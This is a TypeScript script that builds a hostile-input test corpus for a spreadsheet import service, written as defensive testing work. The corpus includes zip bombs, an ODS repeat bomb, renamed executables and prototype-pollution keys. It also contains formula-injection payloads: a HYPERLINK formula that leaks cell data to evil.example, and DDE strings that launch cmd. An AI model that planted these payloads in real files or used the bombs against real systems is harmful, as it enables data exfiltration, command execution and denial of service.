/**
 * Writes the hostile-input corpus of test/fixtures/hostile/ (used by test/security/hostile-input.test.ts):
 * files an attacker or a careless sender could upload. Each must be refused, or imported harmlessly,
 * with a clear message, without taking the worker down or using the memory it claims. Small on disk
 * (well under 5 MB in all) and deterministic. Run:
 *
 *   node -r @swc-node/register scripts/build-hostile-corpus.ts [output folder]
 */
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { ImportKind } from '../src/domain/enums';
import { planObjects, POLICY, PRODUCTS, REPORTS } from '../ingestion/test-support/plan.fixture';
import { buildWorkbook, headerRow, Rows, RowObject, sheetRows, workbookOf } from '../ingestion/test-support/workbook.builder';
import { REPORTE_SHEET } from '../ingestion/templates/reporte.template';
import {
  deflatedZeros,
  elfStub,
  entry,
  minimalOds,
  minimalXlsx,
  rawZip,
  RawEntry,
  sheetXml,
  tinyPng,
  xlsxParts,
  xmlRow,
} from './hostile/raw-zip';

const MiB = 1024 * 1024;

/** What each file is; written to the folder's README.md. */
const corpus: Array<{ file: string; what: string; build: () => Buffer | Promise<Buffer> }> = [];
const add = (file: string, what: string, build: () => Buffer | Promise<Buffer>) => corpus.push({ file, what, build });

/** Deterministic pseudo-random words (a text that compresses like real prose, not like a run of one letter). */
function prose(chars: number, seed = 7): string {
  const words = [
    'avance',
    'meta',
    'política',
    'entidad',
    'informe',
    'sesión',
    'compromiso',
    'indicador',
    'plan',
    'producto',
    'año',
    'período',
  ];
  let x = seed;
  let out = '';
  while (out.length < chars) {
    x = (x * 1103515245 + 12345) % 2 ** 31;
    out += `${words[x % words.length]}${x % 7 === 0 ? '. ' : ' '}${x % 11 === 0 ? x % 1000 : ''}`;
  }
  return out.slice(0, chars);
}

const csvLine = (cells: ReadonlyArray<string | number>, sep = ';'): string =>
  cells.map((c) => (/[";\n\r,]/.test(String(c)) ? `"${String(c).replace(/"/g, '""')}"` : String(c))).join(sep);

const reporteHeaders = () => REPORTE_SHEET.columns.map((c) => c.header);
const reporteValues = (r: RowObject) => REPORTE_SHEET.columns.map((c) => (r[c.key] ?? '') as string | number);

// ——— Zip bombs ———
add(
  'zip-bomb.xlsx',
  'Overlapping-entry zip bomb: 40 directory entries share one 100 MiB stream of zeros, declaring about 4 GB in a ~100 KB file.',
  async () => {
    const zeros = await deflatedZeros(100 * MiB);
    const bomb: RawEntry = {
      name: 'xl/worksheets/sheet1.xml',
      data: zeros,
      method: 8,
      crc: 0,
      compressedSize: zeros.length,
      uncompressedSize: 100 * MiB,
    };
    const copies = Array.from({ length: 39 }, (_, i): RawEntry => ({ ...bomb, name: `xl/media/image${i + 1}.bin`, sameDataAs: bomb.name }));
    return rawZip([...xlsxParts('Reporte'), bomb, ...copies]);
  },
);
add(
  'zip-bomb-lying-sizes.xlsx',
  'A 100 MiB stream of zeros whose local header and central directory declare sizes 0 (data-descriptor flag set): the directory lies.',
  async () => {
    const zeros = await deflatedZeros(100 * MiB);
    return rawZip([
      ...xlsxParts('Reporte'),
      { name: 'xl/worksheets/sheet1.xml', data: zeros, method: 8, crc: 0, compressedSize: 0, uncompressedSize: 0, flags: 0x08 },
    ]);
  },
);
add(
  'zip-bomb-ratio.xlsx',
  'Honest sizes, 90 MiB of zeros in ~90 KB: under the inflated-size limit, refused by the compression ratio.',
  async () => {
    const zeros = await deflatedZeros(90 * MiB);
    return rawZip([
      ...xlsxParts('Reporte'),
      { name: 'xl/worksheets/sheet1.xml', data: zeros, method: 8, crc: 0, compressedSize: zeros.length, uncompressedSize: 90 * MiB },
    ]);
  },
);
add('many-parts.xlsx', 'A valid one-sheet workbook plus 1 500 tiny extra parts (entry-count limit).', () => {
  const extra = Array.from({ length: 1500 }, (_, i) => entry(`xl/media/p${String(i).padStart(4, '0')}.bin`, Buffer.from([i % 256]), true));
  return rawZip([...xlsxParts('Reporte'), entry('xl/worksheets/sheet1.xml', sheetXml(xmlRow(reporteHeaders()))), ...extra]);
});

// ——— Size of sheets ———
add('million-rows.xlsx', 'A sheet with 1 000 000 rows in ~200 KB (row cap, counted in the XML before any parser runs).', () => {
  const rows: string[] = [];
  for (let i = 1; i <= 1_000_000; i++) rows.push(`<row><c><v>${(i * 7919) % 1000}</v></c></row>`);
  return minimalXlsx('Reporte', rows.join(''));
});
add('wide-row.xlsx', 'A row with a cell in the last column Excel has (XFD, column 16 384): column cap.', () =>
  minimalXlsx('Reporte', '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c><c r="XFD1"><v>1</v></c></row>'),
);
add(
  'ods-repeat-bomb.ods',
  'A 1 KB OpenDocument sheet whose one cell repeats 16 384 columns × 1 000 000 rows: passes every static check and exhausts the parser (time and memory bounds).',
  () =>
    minimalOds(
      `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Reporte"><table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`,
    ),
);

// ——— Not a workbook ———
add('renamed-png.xlsx', 'A PNG image renamed .xlsx.', () => tinyPng());
add('renamed-elf.xls', 'The start of an ELF executable renamed .xls.', () => elfStub());
add('empty.xlsx', 'An empty file.', () => Buffer.alloc(0));
add('truncated.xlsx', 'A valid REPORTE workbook cut at 60 % of its bytes (no central directory).', () => {
  const whole = workbookOf(ImportKind.REPORTE, { Reporte: REPORTS });
  return whole.subarray(0, Math.floor(whole.length * 0.6));
});

// ——— Hostile cell content ———
add(
  'proto-keys.xlsx',
  'Headers, cells and sheet names __proto__, constructor, prototype (and JSON that would pollute a naive merge).',
  () => {
    const pollution = '{"__proto__":{"polluted":"sí"},"constructor":{"prototype":{"polluted":"sí"}}}';
    const reporte: Rows = [
      [...headerRow(REPORTE_SHEET), '__proto__', 'constructor', 'prototype', '__defineGetter__'],
      [
        'PP-EJ',
        '__proto__',
        2024,
        'S1',
        1,
        pollution,
        'constructor',
        'prototype',
        '__proto__',
        pollution,
        'constructor.prototype.polluted=1',
        'x',
        'y',
      ],
      ['constructor', 'A', 2024, 'S1', 1, null, null, null, null],
      ['__proto__', 'prototype', 2024, 'S1', 1, null, null, null, null],
    ];
    // Computed keys: own properties named __proto__, not a prototype change.
    return buildWorkbook({
      Reporte: reporte,
      ['__proto__']: [['__proto__', pollution]],
      ['constructor']: [['prototype']],
      ['prototype']: [['constructor']],
    });
  },
);
const injections = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Ver soporte")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C notepad'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
];
add(
  'formula-injection.xlsx',
  'A valid REPORTE whose text cells hold formula-injection payloads, plus one real formula (never evaluated; its cached text is read).',
  () => {
    const rows = REPORTS.map((r, i) => ({
      ...r,
      qualitativeProgress: injections[i % injections.length]!,
      difficulties: injections[(i + 1) % injections.length]!,
      reportedBy: injections[(i + 3) % injections.length]!,
      evidence:
        i === 0
          ? { type: 'formula' as const, formula: '=HYPERLINK("http://evil.example","clic")', cached: 'clic' }
          : injections[(i + 2) % injections.length]!,
    }));
    return buildWorkbook({ Reporte: sheetRows(REPORTE_SHEET, rows) });
  },
);
/** Other periods than REPORTS (the .xlsx), so what each file stored can be checked. */
const CSV_REPORTS: RowObject[] = [
  { policyCode: 'PP-EJ', productCode: 'A', year: 2024, period: 'S2', value: '30,5' },
  { policyCode: 'PP-EJ', productCode: 'B', year: 2024, period: 'T3', value: 8 },
  { policyCode: 'PP-EJ', productCode: 'B', year: 2024, period: 'T4', value: 9 },
  { policyCode: 'PP-EJ', productCode: 'D', year: 2024, period: 'S2', value: 50 },
  { policyCode: 'PP-EJ', productCode: 'E', year: 2024, period: 'T3', value: 20 },
  { policyCode: 'PP-EJ', productCode: 'E', year: 2024, period: 'T4', value: 22 },
];
add(
  'formula-injection.csv',
  'The same payloads in a REPORTE CSV (UTF-8 with BOM, `;` separator and decimal comma, as Excel writes them in Spanish).',
  () => {
    const lines = [csvLine(reporteHeaders())];
    CSV_REPORTS.forEach((r, i) =>
      lines.push(
        csvLine(
          reporteValues({
            ...r,
            qualitativeProgress: injections[(i + 4) % injections.length]!,
            reportedBy: '=1+1',
            evidence: injections[i % injections.length]!,
          }),
        ),
      ),
    );
    return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${lines.join('\r\n')}\r\n`, 'utf8')]);
  },
);
add('long-strings.xlsx', 'A 1 MB cell, a 100 000-character code and a 40 000-character header (beyond Excel’s own 32 767 limit).', () => {
  const headers = [...reporteHeaders(), prose(40_000, 3)];
  const values = reporteValues({ ...REPORTS[0]!, productCode: prose(100_000, 5), qualitativeProgress: prose(1024 * 1024) });
  return minimalXlsx('Reporte', xmlRow(headers) + xmlRow(values));
});
add('dates-extreme.xlsx', 'A PLAN whose dates are year 0001 and 9999, Excel serials 0, negative and huge.', () => {
  const dates: RowObject['baselineDate'][] = [
    '0001-01-01',
    '9999-12-31',
    { type: 'number', value: 0, format: 'yyyy-mm-dd' },
    { type: 'number', value: -1, format: 'yyyy-mm-dd' },
    { type: 'number', value: 1e12, format: 'yyyy-mm-dd' },
  ];
  return workbookOf(
    ImportKind.PLAN,
    planObjects({
      Politica: [{ ...POLICY, code: 'PP-FECHAS', adoptionDate: { type: 'number', value: -693_593, format: 'dd/mm/yyyy' } }],
      Productos: PRODUCTS.map((p, i) => ({ ...p, baseline: 1, baselineDate: dates[i % dates.length]! })),
    }),
  );
});

// ——— Text encodings ———
const LATIN_HEADER = 'Código política;Código producto;Vigencia;Periodo;Valor\r\nPP-EJ;A;2024;S1;70\r\n';
add('invalid-utf8.csv', 'A REPORTE CSV saved in Windows-1252 (ó as byte 0xF3): invalid UTF-8.', () => Buffer.from(LATIN_HEADER, 'latin1'));
add('utf16.csv', 'A REPORTE CSV saved as UTF-16 (Excel “Unicode text”).', () =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(LATIN_HEADER, 'utf16le')]),
);
add('not-reporte.csv', 'A CSV that is not a REPORTE (only REPORTE may be sent as CSV).', () =>
  Buffer.from('Nombre,Correo,Teléfono\nAna Pérez,ana@example.org,555 0101\n', 'utf8'),
);

// ——— GraphQL ———
add('graphql-deep.graphql', 'A GraphQL query 100 levels deep (person → entity → people → …).', () => {
  let selection = 'id';
  for (let level = 99; level >= 2; level--) selection = level % 2 === 0 ? `entity { ${selection} }` : `people { ${selection} }`;
  return Buffer.from(`{ person(id: "1") { ${selection} } }\n`);
});
add('graphql-aliases.graphql', 'A GraphQL query with 2 000 aliases.', () =>
  Buffer.from(`{ ${Array.from({ length: 2000 }, (_, i) => `a${i}: __typename`).join(' ')} }\n`),
);

async function main(): Promise<void> {
  const dir = path.resolve(process.argv[2] ?? path.join(__dirname, '..', 'test', 'fixtures', 'hostile'));
  await fs.mkdir(dir, { recursive: true });
  let total = 0;
  const lines = [
    '# Hostile-input corpus',
    '',
    'Generated by `node -r @swc-node/register scripts/build-hostile-corpus.ts`; do not edit by hand. Every file must be',
    'refused, or imported harmlessly, with a clear Spanish message, and the worker must go on with the next file',
    '(`test/security/hostile-input.test.ts`).',
    '',
    '| File | Bytes | What |',
    '| --- | --- | --- |',
  ];
  for (const { file, what, build } of corpus) {
    const bytes = await build();
    await fs.writeFile(path.join(dir, file), bytes);
    total += bytes.length;
    lines.push(`| \`${file}\` | ${bytes.length} | ${what} |`);
    console.log(`${file.padEnd(28)} ${String(bytes.length).padStart(9)} bytes`);
  }
  await fs.writeFile(path.join(dir, 'README.md'), `${lines.join('\n')}\n`);
  console.log(`${corpus.length} files, ${total} bytes in ${path.relative(process.cwd(), dir) || '.'}`);
}

main().catch((error: unknown) => {
  console.error(error);
  process.exitCode = 1;
});
